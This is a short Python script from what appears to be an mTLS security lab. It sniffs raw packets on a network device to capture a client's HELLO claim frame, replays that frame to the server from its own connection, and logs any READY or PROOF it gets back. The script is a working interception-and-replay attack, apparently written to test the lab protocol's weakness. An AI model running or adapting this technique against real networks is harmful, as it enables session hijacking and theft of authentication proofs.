"""Hears the secret of a claim on path 2, and races to claim with it from a connection of its own.

Usage: thief.py DEVICE PATH2-PORT SERVER. It changes nothing of the client's connection. What it gets (READY, PROOF) is
reported: a proof for the client's own session would be the theft.
"""

import json
import socket
import sys

import common
import recorder
from mtlslab import wire


def overheard(sock):
    """Waits for a HELLO on the wire; returns the frame."""
    while True:
        packet, source = sock.recvfrom(1 << 17)
        data = recorder.payload(source[1], packet)
        at = data.find(wire.PREFACE)
        frame = data[at + len(wire.PREFACE):] if at >= 0 else b""
        if len(frame) >= wire.HEADER + wire.BODY[wire.HELLO] and frame[0] == wire.HELLO:
            return frame[:wire.HEADER + wire.BODY[wire.HELLO]]


def main():
    device, port, server = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
    sock.bind((device, recorder.ETH_P_ALL))
    common.say(event="listening", port=0)
    hello = overheard(sock)
    peer = wire.Peer(server, port)
    peer.send(wire.PREFACE + hello)
    common.say(event="claimed")
    while frame := peer.receive():
        print(json.dumps({"event": "got", **wire.describe(hello, frame)}), flush=True)


if __name__ == "__main__":
    main()
